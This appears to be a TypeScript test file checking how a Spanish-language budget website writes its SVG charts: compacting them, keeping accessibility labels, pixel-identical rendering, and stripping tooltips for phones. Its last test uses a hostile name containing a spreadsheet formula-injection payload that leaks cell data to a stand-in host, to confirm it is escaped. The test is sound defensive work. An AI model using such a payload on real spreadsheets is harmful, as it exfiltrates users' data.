/** Issue 17: each profile chart is written once, compact, as an SVG file (src/pages/instituciones/[id]/[chart].svg.ts). */
import { readFileSync } from 'node:fs';
import { Resvg } from '@resvg/resvg-js';
import { describe, expect, it } from 'vitest';
import { fileSvg, renderBudgetLines, withoutTooltips } from '../../src/site/charts.ts';

describe('fileSvg: a chart as written to its own file', () => {
  const snap = readFileSync(new URL('../charts/snapshots/budgetLinesMinisterio.svg', import.meta.url), 'utf8');
  const file = fileSvg(snap);
  const texts = (s: string) => [...s.matchAll(/<(text|title|desc)\b[^>]*>([^<]*)</g)].map((m) => `${m[1]}:${m[2]!.replace(/&#160;/g, '\u00a0')}`);

  it('drops Plot\'s <style> block and the layout newlines, and is at least 15 % smaller', () => {
    expect(snap).toContain('<style>');
    expect(file).not.toContain('<style>');
    expect(file).not.toContain('\n');
    expect(file.length).toBeLessThan(0.85 * snap.length);
  });

  it('keeps the accessible name, role, description, every label and every tooltip, in order', () => {
    expect(file).toMatch(/^<svg [^>]*aria-label="Presupuesto planificado y ejecutado por rubro, Ministerio del Interior 2023"/);
    expect(file).toMatch(/^<svg [^>]*role="img"/);
    expect(file).toMatch(/^<svg [^>]*viewBox="0 0 \d+ \d+"/);
    expect(texts(file)).toEqual(texts(snap));
    expect(texts(file).filter((t) => t.startsWith('title:')).length).toBeGreaterThan(0);
  });

  it.each(['budgetLinesMinisterio', 'budgetLinesMinisterioPhone', 'goalsMinisterioCapped', 'goalsMinisterioCappedPhone', 'procurementMinisterio', 'procurementMinisterioPhone'])(
    'draws %s pixel for pixel as the chart it optimizes (resvg)',
    (name) => {
      const chart = readFileSync(new URL(`../charts/snapshots/${name}.svg`, import.meta.url), 'utf8');
      const draw = (svg: string) => new Resvg(svg, { font: { loadSystemFonts: true, defaultFontFamily: 'Liberation Sans' }, background: '#ffffff' }).render();
      const a = draw(chart.replace(/<style>[^<]*<\/style>/, ''));
      const b = draw(fileSvg(chart));
      expect([b.width, b.height]).toEqual([a.width, a.height]);
      expect(Buffer.from(b.pixels).equals(Buffer.from(a.pixels))).toBe(true);
    },
  );
});

describe('withoutTooltips: the phone file of a chart', () => {
  it('drops every <title> and keeps the root aria-label, the <desc> and the bars', () => {
    const svg = '<svg aria-label="Metas, 2023" role="img" viewBox="0 0 340 80"><desc>Promedio 96,44 %.</desc>'
      + '<g><rect x="16" y="45" width="10" height="14"><title>1.1 Tasa de matrícula: 116,07&#160;%</title></rect>'
      + '<rect x="16" y="60" width="12" height="14"><title>2.1 Servidores capacitados: 117,01&#160;%</title></rect></g></svg>';
    expect(withoutTooltips(svg)).toBe('<svg aria-label="Metas, 2023" role="img" viewBox="0 0 340 80"><desc>Promedio 96,44 %.</desc>'
      + '<g><rect x="16" y="45" width="10" height="14"></rect><rect x="16" y="60" width="12" height="14"></rect></g></svg>');
  });

  it('leaves a chart without tooltips as it is', () => {
    const svg = '<svg role="img" aria-label="Sin datos"><text x="1" y="2">No se pudo dibujar este gráfico</text></svg>';
    expect(withoutTooltips(svg)).toBe(svg);
  });
});

describe('chart files of hostile names', () => {
  it('a name with &, quotes and tags gives a well-formed file that keeps the name as written', () => {
    const name = '=HYPERLINK("http://x.example/?leak="&A1,"clic") &lt;b&gt; <i>';
    const chart = renderBudgetLines(
      [{ label: 'Bienes & servicios <x>', planned: 10, executed: 5, file: 'a.txt', line: 3 } as never],
      { ariaLabel: `Presupuesto, ${name}`, description: 'Una línea.' } as never,
    );
    for (const svg of [chart.wide, fileSvg(chart.wide)]) {
      expect(/aria-label="([^"]*)"/.exec(svg)![1]).toBe('Presupuesto, =HYPERLINK(&quot;http://x.example/?leak=&quot;&amp;A1,&quot;clic&quot;) &amp;lt;b&amp;gt; &lt;i&gt;');
    }
    // svgo parses it as XML (it threw «Invalid character in entity name» on the raw &A1).
    expect(fileSvg(chart.wide)).not.toContain('<style>');
  });
});
